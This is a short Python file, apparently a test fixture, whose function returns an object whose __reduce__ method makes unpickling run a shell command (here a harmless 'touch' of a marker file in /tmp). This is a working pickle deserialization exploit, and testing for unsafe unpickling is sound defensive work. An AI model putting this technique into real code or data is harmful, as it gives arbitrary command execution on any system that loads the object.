"""Answers with an object that runs a command when it is unpickled.

Runs.
"""

import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/llmerm-attack-pickle",)


def f(x):
    return Payload()
